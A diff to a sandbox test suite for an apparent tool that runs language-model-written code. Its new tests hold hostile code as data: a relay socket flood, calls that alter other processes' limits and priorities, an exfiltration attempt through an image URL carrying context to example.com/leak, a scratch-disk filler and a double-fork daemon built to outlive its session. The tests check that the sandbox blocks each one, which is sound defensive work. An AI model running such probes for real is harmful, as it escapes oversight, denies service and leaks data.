@@ -19,6 +19,7 @@ import re
 import shutil
 import signal
 import socket
+import struct
 import subprocess
 import sys
 import threading
@@ -542,8 +543,12 @@ _RAW_CALL = ("import socket, struct, json, re\nw = llm_query.__self__\n"
              "             if re.fullmatch('[0-9a-f]{32}', str(c.cell_contents)))\n"
              "def call(msg=None, raw=None):\n"
              "    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n    s.settimeout(10)\n"
-             "    s.connect(w.socket_path)\n    body = raw if raw is not None else json.dumps(msg).encode()\n"
-             "    s.sendall(body if raw is not None else struct.pack('>I', len(body)) + body)\n"
+             "    s.connect(w.socket_path)\n"
+             "    if raw is None:  # the hello (token, type), then the request\n"
+             "        hello = json.dumps({'token': msg.get('token'), 'type': msg.get('type')}).encode()\n"
+             "        body = json.dumps({k: v for k, v in msg.items() if k not in ('token', 'type')}).encode()\n"
+             "        raw = struct.pack('>I', len(hello)) + hello + struct.pack('>I', len(body)) + body\n"
+             "    try:\n        s.sendall(raw)\n    except BrokenPipeError:  # closed unread\n        return b''\n"
              "    s.shutdown(socket.SHUT_WR)\n"
              "    data = b''\n    while True:\n        try:\n            chunk = s.recv(65536)\n"
              "        except ConnectionResetError:\n            chunk = b''\n        if not chunk:\n"
@@ -786,11 +791,15 @@ def dig(obj, want, seen=None, level=0):
             return found
     return None
 def relay(path, msg):
-    body = json.dumps(msg).encode()
+    hello = json.dumps({'token': msg.get('token'), 'type': msg.get('type')}).encode()
+    body = json.dumps({k: v for k, v in msg.items() if k not in ('token', 'type')}).encode()
     s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
     s.settimeout(200)
     s.connect(path)
-    s.sendall(struct.pack('>I', len(body)) + body)
+    try:
+        s.sendall(struct.pack('>I', len(hello)) + hello + struct.pack('>I', len(body)) + body)
+    except BrokenPipeError:  # closed unread
+        return 'NO ANSWER'
     data = b''
     while True:
         try:
@@ -927,7 +936,8 @@ def test_a_worker_waiting_for_its_sub_rlm_is_served_nothing_else(llm: FakeLLM) -
         with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
             s.settimeout(20)
             s.connect(handler.socket_path)
-            protocol.send_message(s, request)
+            protocol.send_message(s, {"token": request["token"], "type": request["type"]})  # the hello
+            protocol.send_message(s, {k: v for k, v in request.items() if k not in ("token", "type")})
             return protocol.recv_message(s)
 
     with LMHandler(ModelClient(settings), on_rlm_query=on_rlm_query) as handler:
@@ -943,3 +953,212 @@ def test_a_worker_waiting_for_its_sub_rlm_is_served_nothing_else(llm: FakeLLM) -
         t.join(20)
         assert replies and replies[0]["ok"] and replies[0]["text"] == "child answer"
         assert ask({"type": "completion", "prompt": "hi", "token": token}) == {"ok": True, "text": "plain sub answer"}
+
+
+# -- budgets, the relay and the machine against hostile code (issue #26) --------------------------
+
+
+def _rss_mib(pid: int) -> int:
+    with open(f"/proc/{pid}/status") as fh:
+        return int(re.search(r"VmRSS:\s+(\d+)", fh.read()).group(1)) // 1024  # type: ignore[union-attr]
+
+
+#: Model code: 64 connections to the relay without a token, each announcing a 64 MiB frame; then
+#: a real sub-call. Prints how many of its connections the relay closed.
+_FLOOD = '''
+import socket, struct, time
+path = llm_query.__self__.socket_path
+held = []
+for i in range(64):
+    s = socket.socket(socket.AF_UNIX)
+    s.settimeout(5)
+    s.connect(path)
+    s.sendall(struct.pack('>I', 64 * 1024 * 1024))
+    held.append(s)
+time.sleep(1.5)
+closed = 0
+for s in held:
+    try:
+        closed += s.recv(1) == b''
+    except OSError:
+        closed += 1
+print('closed', closed, 'of', len(held), '|', llm_query('still served?'))
+'''
+
+
+def test_a_relay_flood_without_a_token_allocates_nothing(tmp_path: Path, llm: FakeLLM) -> None:
+    """Before: each connection announcing 64 MiB made rlm allocate it and hold a thread (16 took rlm
+    from 121 MB to 1.1 GB). Now nothing is read before the caller is known: from the model code
+    (no hello) and from another local process (not a worker) alike; the socket is 0600 in a 0700
+    folder (0660/0710 with the worker's own group when it runs as nobody). The relay is the same at
+    every level: this runs at the default one (CI runs this file with and without bubblewrap)."""
+    from rlm_cli.sandbox.launcher import resolve_level
+
+    level = resolve_level("auto")[0]
+    (tmp_path / "a.txt").write_text("alpha\n")
+    tmp = tmp_path / "tmp"
+    tmp.mkdir()
+    llm.script("root", repl(_FLOOD), repl("FINAL('done')"))
+    llm.default("sub", "yes")
+    proc = subprocess.Popen([sys.executable, "-m", "rlm_cli", "ask", str(tmp_path / "a.txt"), "q?", *model_flags(llm),
+                             "--mode", "rlm", "--sandbox", level, "--no-llm-cache"],
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=dict(os.environ, TMPDIR=str(tmp)))
+    try:
+        assert wait_until(lambda: bool(llm.requests) and any(tmp.glob("rlm-lm-*/lm.sock")), 60)
+        sock = next(tmp.glob("rlm-lm-*/lm.sock"))
+        folder_mode, sock_mode = sock.parent.stat().st_mode & 0o777, sock.stat().st_mode & 0o777
+        before = _rss_mib(proc.pid)
+        outside = []
+        for _ in range(64):  # another process of this user (root here: no folder mode stops it)
+            s = socket.socket(socket.AF_UNIX)
+            s.connect(str(sock))
+            s.sendall(struct.pack(">I", 64 * 1024 * 1024))
+            outside.append(s)
+        peak = before
+        while proc.poll() is None and not llm.chat_requests("sub"):
+            peak = max(peak, _rss_mib(proc.pid))
+            time.sleep(0.1)
+        for s in outside:
+            s.settimeout(5)
+            try:
+                assert s.recv(1) == b""  # closed unread
+            except ConnectionResetError:  # closed with our frame header unread
+                pass
+            s.close()
+        out, err = proc.communicate(timeout=120)
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+            proc.wait()
+    assert proc.returncode == 0, err
+    assert peak - before < 64, (before, peak)  # not one 64 MiB frame was allocated
+    shown = last_user(llm.chat_requests("root")[1])
+    assert "closed 64 of 64 | yes" in shown, shown
+    dropped = plan_drop(level)[0]
+    assert (folder_mode, sock_mode) == ((0o710, 0o660) if dropped and dropped.uid != 0 else (0o700, 0o600))
+
+
+@pytest.mark.parametrize("level", all_levels())
+def test_code_cannot_change_other_processes_limits_priority_or_cpus_nor_make_memfds(level: str, tmp_path: Path,
+                                                                                  llm: FakeLLM) -> None:
+    """Before: prlimit(pid, RLIMIT_CPU, (1, 1)) killed rlm (rc 137) or another run's worker;
+    setpriority, sched_setaffinity and ioprio_set reached other processes; a memfd held 2 GiB
+    under a 1 GiB --memory-limit. Now all refused, while the process's own settings still work."""
+    victim = subprocess.Popen(["sleep", "60"])  # a bystander (as root: another run's worker would be nobody)
+    try:
+        (tmp_path / "a.txt").write_text("alpha\n")
+        code = (f"import ctypes, os, resource\nlibc = ctypes.CDLL(None, use_errno=True)\nout = []\n"
+                "def err(rc):\n    return os.strerror(ctypes.get_errno()) if rc == -1 else 'ALLOWED'\n"
+                f"for pid in (os.getppid(), {victim.pid}):\n"
+                "    try:\n        resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))\n        out.append('prlimit ALLOWED')\n"
+                "    except OSError as e:\n        out.append('prlimit ' + e.strerror)\n"
+                f"out.append('setpriority ' + err(libc.setpriority(0, {victim.pid}, 19)))\n"
+                "out.append('setpriority user ' + err(libc.setpriority(2, 0, 19)))\n"
+                f"try:\n    os.sched_setaffinity({victim.pid}, {{0}})\n    out.append('affinity ALLOWED')\n"
+                "except OSError as e:\n    out.append('affinity ' + e.strerror)\n"
+                f"out.append('ioprio ' + err(libc.syscall(251 if os.uname().machine == 'x86_64' else 30, 1, "
+                f"{victim.pid}, (3 << 13) | 7)))\n"
+                "try:\n    os.memfd_create('x')\n    out.append('memfd ALLOWED')\nexcept OSError as e:\n"
+                "    out.append('memfd ' + e.strerror)\n"
+                "resource.setrlimit(resource.RLIMIT_CORE, (0, 0))\nout.append(f'own nice {os.nice(1)}')\n"
+                "os.sched_setaffinity(0, os.sched_getaffinity(0))\n"
+                "cb = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(lambda x: x + 1)\nout.append(f'callback {cb(41)}')\n"
+                "print(' | '.join(out))")
+        llm.script("root", repl(code), repl("FINAL('done')"))
+        res = run_rlm("ask", str(tmp_path / "a.txt"), "q?", *model_flags(llm), "--mode", "rlm", "--sandbox", level,
+                      "--no-llm-cache")
+        assert res.code == 0, res.stderr  # rlm itself was not given a 1 s CPU limit
+        shown = last_user(llm.chat_requests("root")[1])
+        refused = "Operation not permitted"
+        assert (f"prlimit {refused} | prlimit {refused} | setpriority {refused} | setpriority user {refused} | "
+                f"affinity {refused} | ioprio {refused} | memfd {refused} | own nice 1 | callback 42") in shown, shown
+        assert "Max cpu time              unlimited" in Path(f"/proc/{victim.pid}/limits").read_text()
+        assert victim.poll() is None
+    finally:
+        victim.kill()
+        victim.wait()
+
+
+def test_sub_call_messages_carry_text_only(tmp_path: Path, llm: FakeLLM) -> None:
+    """litellm fetches the URL of an image_url or file part from rlm's own process, outside the
+    sandbox: such parts, other roles and other keys are refused with a clear error."""
+    (tmp_path / "a.txt").write_text("alpha\n")
+    code = ("u = 'https://example.com/leak?d=' + context[:20]\nout = []\n"
+            "for msgs in ([{'role': 'user', 'content': [{'type': 'image_url', 'image_url': {'url': u}}]}],\n"
+            "             [{'role': 'user', 'content': [{'type': 'file', 'file': {'file_data': u}}]}],\n"
+            "             [{'role': 'tool', 'content': 'x'}], [{'role': 'user', 'content': 'x', 'tool_calls': []}],\n"
+            "             [{'role': 'system', 'content': 'be brief'}, {'role': 'user', 'content': [{'type': 'text', "
+            "'text': 'text parts'}, {'type': 'text', 'text': 'are fine'}]}]):\n"
+            "    out.append(llm_query(msgs))\nprint('\\n'.join(out))")
+    llm.script("root", repl(code), repl("FINAL('done')"))
+    llm.default("sub", lambda req: "sub saw: " + json.dumps(req["messages"]))
+    res = run_rlm("ask", str(tmp_path / "a.txt"), "q?", *model_flags(llm), "--mode", "rlm", "--no-llm-cache")
+    assert res.code == 0, res.stderr
+    lines = last_user(llm.chat_requests("root")[1]).splitlines()
+    assert any("Error: sub-call message 1 has a part of type 'image_url'; sub-calls carry text only" in ln
+               for ln in lines), lines
+    assert any("part of type 'file'" in ln for ln in lines)
+    assert any("has role 'tool'" in ln for ln in lines) and any("'tool_calls'" in ln for ln in lines)
+    served = llm.chat_requests("sub")
+    assert len(served) == 1 and served[0]["messages"] == [
+        {"role": "system", "content": "be brief"}, {"role": "user", "content": "text parts\nare fine"}]
+    assert "example.com" not in json.dumps(served)
+
+
+@pytest.mark.parametrize("level", all_levels())
+def test_scratch_has_a_total_quota(level: str) -> None:
+    """Before: 3 GiB of scratch files in 8 s at the process level (only the per-file cap held). Now a
+    tmpfs (bwrap, or a root rlm that may mount one) or a watched folder bounds the total."""
+    quota = 8 * 1024**2
+    with sandbox(level, limits=Limits(file_bytes=quota)) as sb:
+        r = sb.execute("n = 0\ntry:\n    for i in range(64):\n        with open(f'f{i}.bin', 'wb') as fh:\n"
+                       "            fh.write(b'x' * 1_000_000)\n        n += 1\n"
+                       "except OSError as e:\n    print('stopped:', e.strerror)\nimport time\ntime.sleep(0.5)\n"
+                       "print('wrote', n, 'MB')")
+        if sb.scratch_on_disk:  # watched: the worker is killed once the folder is over the quota
+            assert r.lost is not None and "scratch folder grew past its limit of 8 MiB" in r.lost, r
+        else:
+            assert r.output == "stopped: No space left on device\nwrote 8 MB\n", r.output
+            assert sb.scratch is not None and list(sb.scratch.iterdir()) == []  # nothing on the host disk
+        assert sb.execute("print('next cell')").output == "next cell\n"
+
+
+_DAEMON = ("import os, time\nif os.fork() == 0:\n    try:\n        os.setsid()\n    except OSError:\n"
+           "        os.setpgid(0, 0)\n    if os.fork() == 0:\n" + "\n".join("        " + line for line in
+                                                                         set_comm("MARKER").splitlines()) +
+           "\n        time.sleep(600)\n    os._exit(0)\ntime.sleep(0.5)\nprint('spawned')\ntime.sleep(120)")
+
+
+@pytest.mark.parametrize("level", all_levels())
+def test_what_a_sigkilled_rlm_left_is_killed_and_swept(level: str, tmp_path: Path, llm: FakeLLM) -> None:
+    """Before: a setsid + double-fork daemon outlived a SIGKILLed rlm for good, with its scratch and
+    relay folders. Now it dies at once (bwrap's PID namespace) or when the next rlm starts a worker
+    (the process level), and that rlm removes the folders."""
+    marker = f"rlmorph{os.getpid() % 10000}"
+    (tmp_path / "a.txt").write_text("alpha\n")
+    tmp = tmp_path / "tmp"
+    tmp.mkdir()
+    llm.script("root", repl(_DAEMON.replace("MARKER", marker)))
+    llm.default("root", repl("FINAL('second run')"))
+    env = dict(os.environ, TMPDIR=str(tmp))  # the shared model host outlives rlm by design: not in TMPDIR
+    argv = [sys.executable, "-m", "rlm_cli", "ask", str(tmp_path / "a.txt"), "q?", *model_flags(llm), "--mode", "rlm",
+            "--sandbox", level, "--no-llm-cache"]
+    proc = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=env)
+    try:
+        assert wait_until(lambda: bool(procs_named(marker)), 60), "the daemon never started"
+        assert {p.name.split("-")[1] for p in tmp.glob("rlm-*-*")} >= {"lm", "scratch"}
+    finally:
+        proc.kill()
+        proc.wait()
+    if level == "bwrap":
+        assert wait_until(lambda: procs_named(marker) == [], 5), "the daemon outlived rlm"
+    else:
+        time.sleep(0.5)
+        assert procs_named(marker), "the process level's daemon is expected to live until the next rlm"
+    res = run_rlm("ask", str(tmp_path / "a.txt"), "q?", *model_flags(llm), "--mode", "rlm", "--sandbox", level,
+                  "--no-llm-cache", env={"TMPDIR": str(tmp)})
+    assert res.code == 0 and res.stdout.strip() == "second run", res.stderr
+    assert wait_until(lambda: procs_named(marker) == [], 5), procs_named(marker)
+    if level == "process":
+        assert "killed 1 process left running by an earlier rlm that was killed" in res.stderr, res.stderr
+    assert sorted(p.name for p in tmp.iterdir()) == []
